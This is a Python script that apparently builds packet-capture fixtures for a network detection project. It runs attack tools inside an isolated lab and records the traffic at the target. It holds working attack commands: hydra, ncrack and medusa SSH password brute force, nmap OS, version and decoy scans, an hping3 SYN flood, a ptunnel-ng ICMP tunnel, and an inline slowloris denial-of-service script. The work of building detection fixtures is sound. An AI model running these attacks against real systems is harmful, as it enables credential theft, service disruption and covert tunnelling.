"""Capture real-tool pcaps for detections that need the packet path to grow (issue #16, table
rows that #15's analyzers do not cover yet): ``sudo .venv/bin/python -m
tests.network.capture_tool_fixtures [NAME ...]`` writes ``tests/fixtures/pcap/tools/NAME.pcap``
(target-side ``tcpdump -n -s 256``, snap-truncated: headers and sizes are what the detections
need, payloads are not) and ``tests/fixtures/pcap/tools/README.md``'s table is their index.

No test reads these files yet: they are the inputs of the analyzers still to be written (SSH
from the wire, ICMP tunnels, slow HTTP, OS/version fingerprints, decoys, low-rate floods). The
tools run between namespaces of the lab (``lab.py``: 198.18.0.0/24, no route out), every
process is bounded by ``timeout`` and ended by PID, the namespaces are torn down at the end.
"""

from __future__ import annotations

import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

from tests.network.lab import ADDRESSES, Lab
from tests.network.toolrun import PYTHON, TGT

OUT = Path(__file__).resolve().parents[1] / "fixtures" / "pcap" / "tools"
ATK = ADDRESSES["atk"]
PASSWORDS = [f"guess{i:03d}" for i in range(24)]

SLOWLORIS = f"""
import socket, time
socks = []
for i in range(400):
    s = socket.create_connection(({TGT!r}, 8080), timeout=5)
    s.sendall(b"GET /?%d HTTP/1.1\\r\\nHost: t\\r\\n" % i)
    socks.append(s)
for _ in range(3):
    time.sleep(4)
    for s in socks:
        s.sendall(b"X-a: b\\r\\n")
for s in socks:
    s.close()
"""

LOGINS = """
import subprocess, sys, time
key, target = sys.argv[1], sys.argv[2]
for _ in range(30):
    subprocess.run(["ssh", "-i", key, "-o", "StrictHostKeyChecking=no", "-o",
                    "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", f"root@{target}",
                    "true"], timeout=20, check=True)
    time.sleep(1.5)
"""


class Capturer:
    def __init__(self, lab: Lab, workdir: Path) -> None:
        self.lab = lab
        self.workdir = workdir

    def capture(self, name: str, role: str, argv: list[str], timeout: int,
                host: str = ATK) -> Path:
        OUT.mkdir(parents=True, exist_ok=True)
        pcap = OUT / f"{name}.pcap"
        log = self.workdir / f"{name}.tcpdump.log"
        dump = self.lab.spawn("tgt", "tcpdump", "-n", "-U", "-s", "256", "-i", "e0", "-w",
                              str(pcap), "host", host, log=log.name)
        deadline = time.monotonic() + 10
        while "listening on" not in log.read_text(errors="replace"):
            if dump.poll() is not None or time.monotonic() > deadline:
                raise RuntimeError(log.read_text(errors="replace"))
            time.sleep(0.05)
        tool = self.lab.spawn(role, "timeout", str(timeout), *argv, log=f"{name}.log")
        try:
            tool.wait(timeout + 10)
        finally:
            self.lab.stop(tool)
        time.sleep(1)
        self.lab.stop(dump)
        packets = subprocess.run(["tcpdump", "-n", "-r", str(pcap)], capture_output=True,
                                 text=True, timeout=60, check=False).stdout.count("\n")
        print(f"{name}: {packets} packets, {pcap.stat().st_size} bytes", file=sys.stderr)
        return pcap


def _setup(lab: Lab, workdir: Path) -> Path:
    keys = workdir / "ssh"
    keys.mkdir()
    for name in ("host", "user"):
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(keys / name)],
                       check=True, timeout=30)
    (keys / "authorized_keys").write_text((keys / "user.pub").read_text())
    (keys / "authorized_keys").chmod(0o600)
    (workdir / "passwords.txt").write_text("\n".join(PASSWORDS) + "\n")
    Path("/run/sshd").mkdir(exist_ok=True)
    lab.spawn("tgt", shutil.which("sshd") or "/usr/sbin/sshd", "-D", "-e", "-p", "22",
              "-h", str(keys / "host"), "-o", f"AuthorizedKeysFile={keys / 'authorized_keys'}",
              "-o", "PidFile=none", "-o", "UsePAM=no", "-o", "StrictModes=no",
              "-o", "PasswordAuthentication=yes", "-o", "MaxAuthTries=6",
              "-o", "PermitRootLogin=yes", "-o", f"ListenAddress={TGT}", log="sshd.log")
    (workdir / "www").mkdir()
    (workdir / "www" / "big.bin").write_bytes(bytes(range(256)) * 8192)  # 2 MB through a tunnel
    lab.spawn("tgt", "timeout", "900", PYTHON, "-m", "http.server", "8080", "--bind", TGT,
              "--directory", str(workdir / "www"), log="http.log")
    lab.spawn("tgt", "timeout", "900", "ptunnel-ng", "-m77", log="ptunnel-proxy.log")
    for i in range(51, 56):
        lab.run("atk", "ip", "addr", "add", f"198.18.0.{i}/24", "dev", "e0", check=True)
    for i in range(61, 66):  # real hosts whose addresses nmap_decoys_real_hosts borrows
        lab.add_host(f"d{i}", f"198.18.0.{i}")
    time.sleep(1)
    return keys


REAL_DECOYS = "198.18.0.61,198.18.0.62,ME,198.18.0.63,198.18.0.64,198.18.0.65"
# decoys come from other addresses: capture all of the target's
HOSTS = {"nmap_decoys": TGT, "nmap_decoys_real_hosts": TGT}


def jobs(workdir: Path, keys: Path) -> dict[str, tuple[str, list[str], int]]:
    pw = str(workdir / "passwords.txt")
    decoys = ",".join(f"198.18.0.{i}" for i in range(51, 56))
    return {
        "hydra_ssh_t1": ("atk", ["hydra", "-t", "1", "-l", "root", "-P", pw, f"ssh://{TGT}"], 120),
        "hydra_ssh_t4": ("atk", ["hydra", "-t", "4", "-l", "root", "-P", pw, f"ssh://{TGT}"], 90),
        "ncrack_ssh_polite": ("atk", ["ncrack", "-T2", "--user", "root", "-P", pw,
                                      f"ssh://{TGT}"], 120),
        "medusa_ssh_t1": ("atk", ["medusa", "-h", TGT, "-u", "root", "-P", pw, "-M", "ssh",
                                  "-t", "1"], 120),
        "ssh_30_key_logins": ("atk", [PYTHON, "-c", LOGINS, str(keys / "user"), TGT], 120),
        "nmap_os_detection": ("atk", ["nmap", "-n", "-Pn", "-O", "-p", "22,8080,9", TGT], 120),
        "nmap_version_scan": ("atk", ["nmap", "-n", "-Pn", "-sV", "-p", "22,8080", TGT], 120),
        "nmap_decoys": ("atk", ["nmap", "-n", "-Pn", "-sS", "-D", f"{decoys},ME", "-e", "e0",
                                "-p", "1-100", TGT], 120),
        "nmap_decoys_real_hosts": ("atk", ["nmap", "-n", "-Pn", "-sS", "-D", REAL_DECOYS, "-e",
                                           "e0", "-p", "1-100", TGT], 120),
        "slowloris_400": ("atk", [PYTHON, "-c", SLOWLORIS], 60),
        "syn_flood_200pps_10s": ("atk", ["hping3", "-q", "-S", "-p", "8080", "-i", "u5000",
                                         "-c", "2000", TGT], 30),
        "icmp_tunnel_ptunnel": ("atk", ["bash", "-c",
                                        f"ptunnel-ng -m77 -p{TGT} -l2222 -r{TGT} -R8080 & "
                                        "sleep 2; curl -s -o /dev/null "
                                        f"http://127.0.0.1:2222/big.bin; kill %1"], 90),
    }


def main(argv: list[str]) -> int:
    workdir = Path(tempfile.mkdtemp(prefix="vd-toolfix-"))
    lab = Lab(workdir)
    try:
        lab.up()
        keys = _setup(lab, workdir)
        cap = Capturer(lab, workdir)
        for name, (role, cmd, timeout) in jobs(workdir, keys).items():
            if not argv or name in argv:
                cap.capture(name, role, cmd, timeout, HOSTS.get(name, ATK))
    finally:
        lab.down()
        print(f"tool logs: {workdir}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
